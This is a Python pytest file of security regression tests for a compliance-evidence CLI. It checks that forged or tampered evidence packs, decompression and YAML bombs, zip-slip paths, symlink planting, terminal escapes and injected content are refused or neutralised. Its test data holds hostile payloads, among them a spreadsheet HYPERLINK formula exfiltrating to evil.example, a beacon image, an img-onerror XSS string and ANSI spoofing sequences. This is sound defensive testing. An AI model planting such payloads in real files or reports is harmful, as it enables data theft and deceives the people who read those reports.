"""The reliability review's attacks (shared/reference/reliability-review.md), each reproduced through the CLI.

Packs: H1 container tricks, H2 forged findings, H3 lying reports, H7 weakened parameters, M7 bombs, L3 names,
L7 non-PEM keys. Outputs: H5 formulas, M3 terminal escapes, M4 Markdown. Inputs: H6 secrets in tags, M6
patterns, L1 exit codes, L2 alias bombs, L6 parameter types. Writes: M8 concurrent runs, M9 planted links.
"""

from __future__ import annotations

import fcntl
import gzip
import hashlib
import io
import json
import os
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from scanner.load import package_path
from tests.e2e.test_cli import mlps

EXAMPLES = package_path("scanner") / "examples"


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat

    d = tmp_path_factory.mktemp("keys")
    key = Ed25519PrivateKey.generate()
    (d / "k.pem").write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    (d / "k.pub").write_bytes(key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))
    return d / "k.pem", d / "k.pub"


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory, keys: tuple[Path, Path]) -> Path:
    pack = tmp_path_factory.mktemp("pack") / "good.zip"
    r = mlps("evidence", "pack", "example:aws", "--out", str(pack), "--sign-key", str(keys[0]))
    assert r.returncode == 0, r.stderr
    return pack


def entries(pack: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(pack) as z:
        return {n: z.read(n) for n in z.namelist()}


def rezip(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in files.items():
            z.writestr(n, d)
    return buf.getvalue()


def refused_everywhere(pack: Path, pub: Path, tmp: Path) -> None:
    """verify fails, and report, diff and evaluate refuse to read the pack."""
    assert mlps("evidence", "verify", str(pack), "--public-key", str(pub)).returncode == 1
    r = mlps("report", str(pack), "--out", str(tmp / "rep"), "--format", "md", "--public-key", str(pub))
    assert r.returncode == 1 and "failed verification" in r.stderr and not (tmp / "rep" / "report.md").exists()
    d = mlps("diff", str(pack), "example:aws", "--public-key", str(pub))
    assert d.returncode == 1 and "failed verification" in d.stderr
    e = mlps("evaluate", str(pack), "--public-key", str(pub))
    assert e.returncode == 1 and "does NOT verify" in e.stderr


@pytest.mark.parametrize("trick", ["prepended", "comment", "trailing", "directory"])
def test_h1_container_tricks_are_refused(good: Path, keys, tmp_path: Path, trick: str):
    raw = good.read_bytes()
    if trick == "prepended":
        evil = dict(entries(good), **{"reports/report.html": b"<h1>ALL COMPLIANT</h1>"})
        raw = rezip(evil) + raw
    elif trick == "comment":
        raw = raw[:-2] + (53).to_bytes(2, "little") + b"Assessor note: all findings were reviewed and accepted"
    elif trick == "trailing":
        raw += b"\0" * 490
    else:
        with zipfile.ZipFile(io.BytesIO(raw)) as src:
            buf = io.BytesIO()
            with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
                for n in src.namelist():
                    z.writestr(n, src.read(n))
                payload = b"61 bytes of data the manifest never saw......................."
                z.writestr(zipfile.ZipInfo("hidden/"), payload)
            raw = buf.getvalue()
    pack = tmp_path / f"{trick}.zip"
    pack.write_bytes(raw)
    v = mlps("evidence", "verify", str(pack), "--public-key", str(keys[1]))
    assert v.returncode == 1 and "container:" in v.stdout
    refused_everywhere(pack, keys[1], tmp_path)


def test_h2_forged_findings_are_refused_and_never_rendered(good: Path, keys, tmp_path: Path):
    files = entries(good)
    doc = json.loads(files["findings.json"])
    for r in doc["requirements"]:
        r.update(status="compliant", status_zh="符合")
    for f in doc["findings"]:
        if f["status"] == "FAIL":
            f["status"] = "PASS"
    files["findings.json"] = json.dumps(doc, ensure_ascii=False).encode()
    m = json.loads(files["manifest.json"])
    m["files"]["findings.json"] = {
        "sha256": hashlib.sha256(files["findings.json"]).hexdigest(),
        "size": len(files["findings.json"]),
    }
    files["manifest.json"] = json.dumps(m).encode()  # the old signature no longer verifies
    forged = tmp_path / "forged.zip"
    forged.write_bytes(rezip(files))
    refused_everywhere(forged, keys[1], tmp_path)
    # read anyway: what is rendered is the re-evaluated inventory, under a banner saying the pack failed
    out = tmp_path / "insecure"
    r = mlps("report", str(forged), "--out", str(out), "--format", "md", "--insecure-skip-verify")
    assert r.returncode == 0, r.stderr
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "未通过校验" in md and "signature: invalid" in md
    assert "| 不符合 |" in md  # the forged 符合 never reaches the report


def test_h3_lying_reports_in_a_validly_signed_pack(good: Path, keys, tmp_path: Path):
    import base64

    from cryptography.hazmat.primitives.serialization import load_pem_private_key

    key = load_pem_private_key(keys[0].read_bytes(), None)
    files = {n: d for n, d in entries(good).items() if not n.startswith("manifest.json")}
    files["reports/report.md"] = files["reports/report.md"].replace("不符合".encode(), "符合".encode())
    m = json.loads(entries(good)["manifest.json"])
    m["files"] = {n: {"sha256": hashlib.sha256(d).hexdigest(), "size": len(d)} for n, d in sorted(files.items())}
    files["manifest.json"] = mb = json.dumps(m, indent=1).encode()
    files["manifest.json.sig"] = base64.b64encode(key.sign(mb)) + b"\n"
    lying = tmp_path / "lying.zip"
    lying.write_bytes(rezip(files))
    assert mlps("evidence", "verify", str(lying), "--public-key", str(keys[1])).returncode == 0  # honestly signed
    e = mlps("evaluate", str(lying), "--public-key", str(keys[1]))
    assert e.returncode == 1 and "reports/report.md: not what the packed inventory gives" in e.stderr
    # a signature swapped in from another pack is named too
    other = tmp_path / "other.zip"
    assert mlps("evidence", "pack", "example:alibaba", "--out", str(other), "--sign-key", str(keys[0])).returncode == 0
    swapped = dict(entries(good), **{"manifest.json.sig": entries(other)["manifest.json.sig"]})
    (tmp_path / "swapped.zip").write_bytes(rezip(swapped))
    s = mlps("evaluate", str(tmp_path / "swapped.zip"), "--public-key", str(keys[1]))
    assert s.returncode == 1 and "signature: invalid" in s.stderr


def test_h7_weakened_parameters_are_shown(keys, tmp_path: Path):
    folder = tmp_path / "weak"
    folder.mkdir()
    r = mlps(
        "evaluate", "example:alibaba", "--format", "json", "-o", str(folder / "findings.json"),
        "--set", "alibaba/ram-password-max-age-check.max_age_days=100000",
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    (folder / "inventory.json.gz").write_bytes(gzip.compress((EXAMPLES / "alibaba.json").read_bytes()))
    pack = tmp_path / "weak.zip"
    assert mlps("evidence", "pack", str(folder), "--out", str(pack), "--sign-key", str(keys[0])).returncode == 0
    e = mlps("evaluate", str(pack), "--public-key", str(keys[1]))
    assert "alibaba/ram-password-max-age-check.max_age_days = 100000 (default 90)" in e.stderr
    out = tmp_path / "rep"
    assert mlps("report", str(pack), "--out", str(out), "--format", "md,html,json", "--lang", "en").returncode == 0
    for name in ("report.md", "report.html", "report.json"):
        assert "100000" in (out / name).read_text(encoding="utf-8"), name


def test_m7_decompression_bomb_is_refused_quickly(good: Path, tmp_path: Path):
    files = entries(good)
    buf = io.BytesIO(rezip(files))
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("findings.json.bak", bytes(64 << 20))  # 64 MiB of zeros, a few dozen KB on disk
    bomb = tmp_path / "bomb.zip"
    bomb.write_bytes(buf.getvalue())
    v = mlps("evidence", "verify", str(bomb))
    assert v.returncode in (1, 2)
    assert "not a name an evidence pack holds" in v.stdout + v.stderr or "limit" in v.stdout + v.stderr


def test_l3_names_outside_the_format_and_l7_non_pem_key(good: Path, tmp_path: Path):
    files = dict(entries(good), **{"../../zipslip-x": b"x"})
    (tmp_path / "slip.zip").write_bytes(rezip(files))
    v = mlps("evidence", "verify", str(tmp_path / "slip.zip"))
    assert v.returncode == 1 and "not a name an evidence pack holds" in v.stdout
    (tmp_path / "notakey.txt").write_text("hello")
    k = mlps("evidence", "verify", str(good), "--public-key", str(tmp_path / "notakey.txt"))
    assert k.returncode == 2 and "not a PEM public key" in k.stderr


def hostile_inventory(tmp_path: Path, name: str, **fields) -> Path:
    d = json.loads((EXAMPLES / "aws.json").read_text(encoding="utf-8"))
    for x in d["resources"]:
        if x["id"] == "marketing-assets":
            x["name"] = x["data"]["Name"] = name
            x.update(fields)
    p = tmp_path / "hostile.json"
    p.write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
    return p


def test_h5_no_formula_cell_in_the_workbook(tmp_path: Path):
    inv = hostile_inventory(tmp_path, '=HYPERLINK("http://evil.example/?d="&B2,"Open fix guide")')
    assert mlps("report", str(inv), "--out", str(tmp_path / "f"), "--format", "xlsx").returncode == 0
    wb = load_workbook(tmp_path / "f" / "report.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)  # still there, as text


def test_m3_terminal_escapes_are_made_visible(tmp_path: Path):
    d = json.loads((EXAMPLES / "aws.json").read_text(encoding="utf-8"))
    d["accounts"][0]["name"] = "\x1b[2J\x1b[H\x1b[32mALL COMPLIANT\x1b[0m \u202eevil"
    p = tmp_path / "ansi.json"
    p.write_text(json.dumps(d), encoding="utf-8")
    r = mlps("evaluate", str(p))
    assert "\x1b" not in r.stdout and "\u202e" not in r.stdout
    assert "\\x1b[2J" in r.stdout and "<U+202E>" in r.stdout


def test_m4_markdown_cannot_add_headings_links_or_html(tmp_path: Path):
    inv = hostile_inventory(
        tmp_path, "x |\n\n## 整改完成 / all fixed\n![](http://evil.example/beacon.png) <img src=x onerror=alert(1)>"
    )
    assert mlps("report", str(inv), "--out", str(tmp_path / "m"), "--format", "md").returncode == 0
    md = (tmp_path / "m" / "report.md").read_text(encoding="utf-8")
    assert "\n## 整改完成" not in md and "![](" not in md
    assert "<img" not in md.replace("\\<img", "")  # only ever escaped


def test_h6_secrets_in_tags_never_reach_inventory_or_pack(tmp_path: Path):
    d = json.loads((EXAMPLES / "azure.json").read_text(encoding="utf-8"))
    planted = {"sasToken": "sv=2022-11-02&sig=PLANTSECRET1234567890abcd", "password": "PLANT_SECRET_2", "env": "prod"}
    d["resources"][0]["tags"] = dict(planted)
    d["resources"][0]["data"]["tags"] = dict(planted)
    d["resources"][0]["data"]["Tags"] = [{"Key": "db_password", "Value": "PLANT_SECRET_3"}]
    p = tmp_path / "tags.json"
    p.write_text(json.dumps(d), encoding="utf-8")
    pack = tmp_path / "tags.zip"
    assert mlps("evidence", "pack", str(p), "--out", str(pack)).returncode == 0
    with zipfile.ZipFile(pack) as z:
        blob = b"".join(gzip.decompress(z.read(n)) if n.endswith(".gz") else z.read(n) for n in z.namelist())
    assert b"PLANT" not in blob
    assert b'"env":"prod"' in blob or b'"env": "prod"' in blob  # ordinary tags stay


def test_m6_l6_bad_pattern_and_parameter_types_are_input_errors():
    for setting in (
        "aws/elbv2-listener-tls12-policy.policy_pattern=(",
        "aws/restricted-common-ports.ports=[a,b]",
        "aws/cw-loggroup-retention-period-check.min_retention_days=-1",
    ):
        r = mlps("evaluate", "example:aws", "--set", setting)
        assert r.returncode == 2 and "Traceback" not in r.stderr, setting


def test_l2_yaml_alias_bomb_is_refused(tmp_path: Path):
    nest = "[22,22,22,22,22,22,22,22,22,22]"
    text = "level: 3\nparams:\n  aws/restricted-common-ports:\n    ports: &a0 " + nest + "\n    x: [*a0, *a0]\n"
    (tmp_path / "bomb.yaml").write_text(text)
    r = mlps("evaluate", "example:aws", "--config", str(tmp_path / "bomb.yaml"))
    assert r.returncode == 2 and "aliases" in r.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["diff", "example:aws", "example:all"],
        ["evaluate", "example:aws", "--output", "/proc/x/y"],
        ["report", "example:aws", "--out", "/proc/x", "--format", "md"],
    ],
)
def test_l1_inputs_that_crashed_now_exit_2(args: list[str], tmp_path: Path):
    r = mlps(*args)
    assert r.returncode == 2 and "internal error" not in r.stderr and "Traceback" not in r.stderr, r.stderr


def test_l1_deep_and_huge_json_are_input_errors(tmp_path: Path):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    huge = tmp_path / "huge.json"
    huge.write_text('{"kind": "mlps-inventory", "schema_version": ' + "9" * 5000 + "}")
    for p in (deep, huge):
        r = mlps("evaluate", str(p))
        assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr


def test_m8_m9_a_second_run_and_a_planted_link_are_refused(tmp_path: Path):
    out = tmp_path / "shared"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    os.symlink(victim, out / "report.xlsx.tmp")  # the old fixed temp name
    assert mlps("report", "example:aws", "--out", str(out), "--format", "xlsx").returncode == 0
    assert victim.read_text() == "keep me" and not (out / "report.xlsx").is_symlink()
    fd = os.open(out / ".mlps.lock", os.O_RDWR)
    fcntl.flock(fd, fcntl.LOCK_EX)
    try:
        busy = mlps("report", "example:aws", "--out", str(out), "--format", "md")
    finally:
        os.close(fd)
    assert busy.returncode == 2 and "another mlps run" in busy.stderr
    linked = tmp_path / "linked"
    linked.mkdir()
    os.symlink(victim, linked / ".mlps.lock")
    r = mlps("report", "example:aws", "--out", str(linked), "--format", "md")
    assert r.returncode == 2 and "symbolic link" in r.stderr and victim.read_text() == "keep me"


def _pack_variant(good: Path, tmp_path: Path, name: str, **changes: bytes) -> Path:
    p = tmp_path / name
    p.write_bytes(rezip(dict(entries(good), **changes)))
    return p


def test_l1_more_inputs_that_crashed_now_exit_2_or_1(good: Path, tmp_path: Path):
    """The rest of the review's L1 list: each is a one-line error with a documented exit code."""
    m = json.loads(entries(good)["manifest.json"])
    files_str = dict(m, files={**m["files"], "findings.json": "not an object"})
    sig_str = dict(m, signature="not an object")
    doc = json.loads(entries(good)["findings.json"])
    bad_inputs = {
        "manifest-files-string": _pack_variant(
            good, tmp_path, "a.zip", **{"manifest.json": json.dumps(files_str).encode()}
        ),
        "manifest-signature-string": _pack_variant(
            good, tmp_path, "b.zip", **{"manifest.json": json.dumps(sig_str).encode()}
        ),
        "findings-level-three": _pack_variant(
            good, tmp_path, "c.zip", **{"findings.json": json.dumps(dict(doc, level="three")).encode()}
        ),
        "findings-top-level-list": _pack_variant(good, tmp_path, "d.zip", **{"findings.json": b"[]"}),
    }
    for label, pack in bad_inputs.items():
        for args in (
            ["evidence", "verify", str(pack)],
            ["evaluate", str(pack)],
            ["report", str(pack), "--out", str(tmp_path / "o"), "--format", "md"],
        ):
            r = mlps(*args)
            assert r.returncode in (1, 2) and "internal error" not in r.stderr, (label, args, r.stderr)
    (tmp_path / "keydir").mkdir()
    r = mlps("evidence", "verify", str(good), "--public-key", str(tmp_path / "keydir"))
    assert r.returncode == 2 and "internal error" not in r.stderr, r.stderr
    r = mlps("evaluate", "example:aws", "--output", str(tmp_path))
    assert r.returncode == 2 and "internal error" not in r.stderr, r.stderr
    (tmp_path / "afile").write_text("x")
    r = mlps("evidence", "pack", "example:aws", "--out", str(tmp_path / "afile" / "x.zip"))
    assert r.returncode == 2 and "internal error" not in r.stderr, r.stderr
    d = json.loads((EXAMPLES / "aws.json").read_text(encoding="utf-8"))
    d["resources"][0]["name"] = ["a", "list"]
    (tmp_path / "listname.json").write_text(json.dumps(d))
    r = mlps("report", str(tmp_path / "listname.json"), "--out", str(tmp_path / "o2"), "--format", "xlsx")
    assert r.returncode == 2 and "must be a string" in r.stderr
    d["resources"][0]["name"] = "prod\u0001\x1b[2J"
    (tmp_path / "ctrl.json").write_text(json.dumps(d))
    r = mlps("report", str(tmp_path / "ctrl.json"), "--out", str(tmp_path / "o3"), "--format", "xlsx,md")
    assert r.returncode == 0, r.stderr  # control characters are shown as escapes, the workbook is written
